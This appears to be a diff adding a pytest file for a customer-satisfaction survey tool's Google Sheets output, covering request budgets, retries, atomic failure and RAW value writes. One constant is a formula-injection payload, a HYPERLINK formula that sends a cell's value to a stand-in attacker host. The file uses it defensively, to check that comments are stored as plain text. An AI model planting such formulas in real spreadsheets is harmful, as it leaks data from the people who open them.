@@ -1,0 +1,216 @@
+"""The Google Sheets output: request budget, RAW values, retries, atomic failure, padding."""
+
+from __future__ import annotations
+
+from datetime import UTC
+from datetime import datetime
+from datetime import timedelta
+
+from csat_hook.devtools import sheets_model
+from csat_hook.devtools.sheets_model import Formula
+from tests.sync.conftest import EN_HEADER
+from tests.sync.conftest import SHEET_ID
+
+T0 = datetime(2026, 11, 18, 9, 0, tzinfo=UTC)
+FORMULA_COMMENT = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+
+
+def seed(kit, agents: int = 30, per_agent: int = 7) -> list[str]:
+    rows = [EN_HEADER]
+    tokens_ = []
+    for a in range(agents):
+        for i in range(per_agent):
+            token = kit.survey(f"T-{a}-{i}", str(100 + a), f"Agent {a:02d}",
+                               team=f"Team {a % 3}", created=T0 - timedelta(days=i))
+            tokens_.append(token)
+            rows.append([T0 + timedelta(hours=i), 1 + (a + i) % 5, f"comment {a}/{i}", "", "",
+                         token])
+    kit.responses(rows)
+    return tokens_
+
+
+def test_a_whole_sync_stays_within_three_reads_and_three_writes(kit):
+    seed(kit)
+    summary = kit.run()
+
+    assert summary.status == "ok", summary.error
+    reads, writes = kit.fake.count("sheets_read"), kit.fake.count("sheets_write")
+    assert reads <= 3 and writes <= 3
+    assert (reads, writes) == (2, 2)  # metadata + responses; structure + values
+    assert summary.requests["sheets_read"] == reads and summary.requests["sheets_write"] == writes
+    assert len(kit.fake.titles(SHEET_ID)) == 1 + 30 + 2  # responses, 30 agents, summary, unverified
+
+
+def test_values_are_written_raw_as_json_numbers(kit):
+    token = kit.survey("T-1", "7", "Anna Petrova")
+    kit.responses([EN_HEADER, [T0, 4, FORMULA_COMMENT, "", "", token],
+                   [T0 + timedelta(hours=1), 5, "+1 and -1 and @here", "", "", kit.survey(
+                       "T-2", "7", "Anna Petrova")]])
+    captured: list[dict] = []
+    original = kit.fake.handle
+
+    def spy(method, path, query, body, authorization):
+        if path.endswith("values:batchUpdate"):
+            import json
+            captured.append(json.loads(body))
+        return original(method, path, query, body, authorization)
+
+    kit.fake.handle = spy
+    assert kit.run().status == "ok"
+    [body] = captured
+    assert body["valueInputOption"] == "RAW"
+    anna = next(d for d in body["data"] if d["range"].startswith("'Anna Petrova (7)'!"))
+    assert anna["values"][1][:4] == ["2026-11-18 10:00", "T-2", 5, "+1 and -1 and @here"]
+    assert isinstance(anna["values"][1][2], int)
+    stored = kit.sheet("Anna Petrova (7)")
+    assert stored[2][3] == FORMULA_COMMENT and not isinstance(stored[2][3], Formula)
+    assert stored[2][4] == "https://desk.example.com/t/T-1"
+
+
+def test_the_fake_would_have_made_it_a_formula_with_user_entered():
+    """The RAW test above can fail: USER_ENTERED turns the same text into a formula."""
+    sheet = sheets_model.Spreadsheet("x")
+    sheets_model.batch_update(sheet, [{"addSheet": {"properties": {"title": "T"}}}])
+    for option in ("USER_ENTERED", "RAW"):
+        plan = sheets_model.write(sheet, "'T'!A1", [[FORMULA_COMMENT]], option)
+        sheets_model.apply_write(sheet, plan)
+        stored = sheet.tabs[0].cells[0][0]
+        assert isinstance(stored, Formula) == (option == "USER_ENTERED")
+
+
+def test_429s_are_retried_a_bounded_number_of_times_then_succeed(kit):
+    seed(kit, agents=3, per_agent=2)
+    kit.fake.fail(2, 429, "sheets_write")
+    kit.fake.fail(1, 503, "sheets_read")
+    summary = kit.run()
+
+    assert summary.status == "ok", summary.error
+    assert summary.requests["retries"] == 3
+    assert len(kit.sleeps) == 3
+    # Exponential with equal jitter: attempt n waits between base·2ⁿ/2 and base·2ⁿ (base 1 s).
+    for wait in kit.sleeps:
+        assert 0.5 <= wait <= 4
+    statuses = [r["status"] for r in kit.fake.api_requests("sheets_write")]
+    assert statuses == [429, 429, 200, 200]
+    assert "Agent 00 (100)" in kit.fake.titles(SHEET_ID)
+
+
+def test_a_429_storm_fails_cleanly_and_leaves_every_tab_as_it_was(kit):
+    seed(kit, agents=3, per_agent=2)
+    assert kit.run().status == "ok"
+    kit.fake.append_rows(SHEET_ID, "Form Responses 1", [
+        [T0 + timedelta(days=1), 1, "new one", "", "", kit.survey("T-new", "100", "Agent 00")],
+        [T0 + timedelta(days=1), 5, "newcomer", "", "", kit.survey("T-9", "999", "New Agent")]])
+    before = {t: kit.sheet(t) for t in kit.fake.titles(SHEET_ID)}
+    kit.fake.fail(100, 429, "sheets_write")
+    kit.fake.reset_requests()
+    failed = kit.run()
+
+    assert failed.status == "failed"
+    assert "HTTP 429 RESOURCE_EXHAUSTED" in failed.error and "after 4 attempts" in failed.error
+    assert kit.fake.count("sheets_write") == 4  # 1 + max_retries (3), then it gave up
+    assert {t: kit.sheet(t) for t in kit.fake.titles(SHEET_ID)} == before
+    # The answers were stored; the next run writes the complete report.
+    kit.fake.clear_failures()
+    recovered = kit.run()
+    assert recovered.status == "ok" and recovered.new == 0
+    assert kit.sheet("New Agent (999)")[1][3] == "newcomer"
+
+
+def test_a_failed_value_write_leaves_existing_tabs_untouched(kit):
+    seed(kit, agents=2, per_agent=2)
+    assert kit.run().status == "ok"
+    before = kit.sheet("Agent 00 (100)")
+    kit.fake.append_rows(SHEET_ID, "Form Responses 1", [
+        [T0 + timedelta(days=2), 1, "later", "", "", kit.survey("T-n", "100", "Agent 00")],
+        [T0 + timedelta(days=2), 5, "x", "", "", kit.survey("T-m", "555", "Someone New")]])
+    # The structure write (new tab) goes through; every value write then fails.
+    original = kit.fake.handle
+
+    def refuse_values(method, path, query, body, authorization):
+        if path.endswith("values:batchUpdate"):
+            kit.fake.fail(1, 503, "sheets_write")
+        return original(method, path, query, body, authorization)
+
+    kit.fake.handle = refuse_values
+    summary = kit.run()
+    assert summary.status == "failed" and "HTTP 503" in summary.error
+    assert kit.sheet("Agent 00 (100)") == before
+    assert kit.sheet("Someone New (555)") == []  # created, still empty: nothing half-written
+
+
+def test_old_extents_are_overwritten_with_blanks_not_cleared_separately(kit):
+    token = kit.survey("T-1", "7", "Anna Petrova")
+    kit.responses([EN_HEADER, [T0, 5, "ok", "", "", token]])
+    # A hand-made Summary tab full of stale cells, with a small grid.
+    kit.fake.add_tab(SHEET_ID, "Summary", [["stale"] * 30 for _ in range(8)], row_count=8,
+                     col_count=30)
+    summary = kit.run()
+
+    assert summary.status == "ok", summary.error
+    cells = kit.sheet("Summary")
+    assert not any(v == "stale" for row in cells for v in row)
+    assert cells[0][0] == "CSAT report"
+    paths = [r["path"] for r in kit.fake.api_requests("sheets_write")]
+    assert not any("clear" in p.lower() for p in paths)
+
+
+def test_the_responses_tab_is_never_written(kit):
+    token = kit.survey("T-1", "7", "Anna Petrova")
+    kit.responses([EN_HEADER, [T0, 5, "ok", "", "", token]])
+    before = kit.sheet("Form Responses 1")
+    summary = kit.run(kit.config(output={"gsheets": {"summary_tab": "form responses 1"}}))
+
+    assert summary.status == "ok", summary.error
+    assert kit.sheet("Form Responses 1") == before
+    assert "form responses 1 2" in kit.fake.titles(SHEET_ID)
+
+
+def test_a_large_report_is_split_between_whole_tabs(kit):
+    seed(kit, agents=20, per_agent=40)
+    config = kit.config(output={"gsheets": {"max_request_bytes": 100_000}})
+    summary = kit.run(config)
+    assert summary.status == "ok", summary.error
+    value_writes = [r for r in kit.fake.api_requests("sheets_write")
+                    if r["path"].endswith("values:batchUpdate")]
+    assert len(value_writes) == 2 and all(r["bytes"] <= 100_000 for r in value_writes)
+    assert kit.fake.count("sheets_write") <= 3
+
+
+def test_a_report_too_large_for_the_budget_fails_before_writing(kit):
+    seed(kit, agents=40, per_agent=40)
+    summary = kit.run(kit.config(output={"gsheets": {"max_request_bytes": 100_000}}))
+    assert summary.status == "failed"
+    assert "output.gsheets.max_rows_per_agent" in summary.error
+    assert kit.fake.count("sheets_write") == 0
+
+
+def test_a_separate_report_spreadsheet_costs_one_more_read(kit):
+    token = kit.survey("T-1", "7", "Anna Petrova")
+    kit.responses([EN_HEADER, [T0, 5, "ok", "", "", token]])
+    kit.fake.add_spreadsheet("report-sheet")
+    kit.fake.add_tab("report-sheet", "Sheet1", [], sheet_id=0)
+    summary = kit.run(kit.config(output={"gsheets": {"spreadsheet_id": "report-sheet"}}))
+
+    assert summary.status == "ok", summary.error
+    assert (kit.fake.count("sheets_read"), kit.fake.count("sheets_write")) == (3, 2)
+    assert kit.fake.titles("report-sheet") == ["Summary", "Sheet1", "Anna Petrova (7)",
+                                               "Unverified"]
+    assert kit.fake.titles(SHEET_ID) == ["Form Responses 1"]
+
+
+def test_agents_with_surveys_but_no_answers_yet(kit):
+    for n in range(4):
+        kit.survey(f"T-{n}", "8", "Boris Ivanov", team="L2")
+    kit.responses([EN_HEADER])
+    summary = kit.run()
+
+    assert summary.status == "ok", summary.error
+    rows = kit.sheet("Summary")
+    assert rows[0][:2] == ["CSAT report", "no answers yet"]
+    boris = next(r for r in rows[3:] if r[3] == "Agent" and r[0] == "All time")
+    header = rows[2]
+    record = dict(zip(header, boris + [None] * (len(header) - len(boris)), strict=True))
+    assert (record["Surveys sent"], record["Answers"], record["Response rate %"]) == (4, 0, 0.0)
+    assert record["CSAT %"] is None and record["Below min n"] == "yes"
+    assert "Boris Ivanov (8)" not in kit.fake.titles(SHEET_ID)  # no answers, no tab
